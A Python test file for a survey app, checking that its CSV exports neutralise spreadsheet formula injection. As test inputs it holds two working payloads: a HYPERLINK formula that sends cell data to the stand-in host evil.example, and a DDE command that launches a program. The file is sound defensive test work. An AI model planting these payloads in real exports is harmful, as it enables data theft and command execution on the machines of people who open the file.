"""CSV injection (issue #12): no text cell of any CSV the app writes starts a formula."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

from survey_app.extensions import db
from survey_app.services import create_wave
from survey_app.services.tables import FORMULA_START, Column, Table, to_csv

from .conftest import add_units, csrf_token, login

# What someone with HR access (or a unit import file) can type as a unit or wave name.
EVIL_UNIT = '=HYPERLINK("http://evil.example/?c="&A2,"Klik")'
EVIL_WAVE = "+cmd|' /C calc'!A0"


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_codes_csv_does_not_send_codes_out_of_the_spreadsheet(app, client, users):
    with app.app_context():
        units = add_units([("ROOT", "Pemkot", None, 0), ("EVIL", EVIL_UNIT, "ROOT", 3),
                           ("TAB", "\tTab", "ROOT", 2), ("AT", "@SUM(1+1)", "ROOT", 2)])
        wave = create_wave(name=EVIL_WAVE, period="2026-Q3", instrument_keys=["tready"],
                           unit_ids=[u.id for c, u in units.items() if c != "ROOT"],
                           opens_on=dt.date(2026, 7, 1), closes_on=dt.date(2026, 7, 30), k=3,
                           cut=None, actor="test")
        db.session.commit()
        wave_id = wave.id
    login(client, "admin")
    page = client.get(f"/hr/gelombang/{wave_id}").get_data(as_text=True)
    r = client.post(f"/hr/gelombang/{wave_id}/kode", data={
        "csrf_token": csrf_token(page), "unit": "0", "count": "", "fmt": "csv"})
    assert r.status_code == 200 and r.mimetype == "text/csv"
    header, *rows = _rows(r.data)
    assert len(rows) == 7
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    by_unit = {row[header.index("unit_name")] for row in rows}
    assert by_unit == {"'" + EVIL_UNIT, "'\tTab", "'@SUM(1+1)"}  # still readable as text
    assert {row[header.index("wave")] for row in rows} == {"'" + EVIL_WAVE}


def test_table_csv_neutralises_text_but_keeps_numbers():
    table = Table((Column("unit", "Unit", "text"), Column("delta", "Change", "float"),
                   Column("n", "n", "int")),
                  [("-1 unit", -0.5, -3), ("=1+1", 0.25, 4), (None, None, None)])
    rows = _rows(to_csv(table))
    assert rows == [["unit", "delta", "n"], ["'-1 unit", "-0.5", "-3"], ["'=1+1", "0.25", "4"],
                    ["", "", ""]]


def test_every_csv_is_written_by_the_one_writer_in_tables():
    """csv.writer appears only in survey_app/services/tables.py."""
    package = Path(__file__).parents[2] / "survey_app"
    writers = []
    for path in package.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                writers.append(path.relative_to(package).as_posix())
    assert writers == ["services/tables.py"]
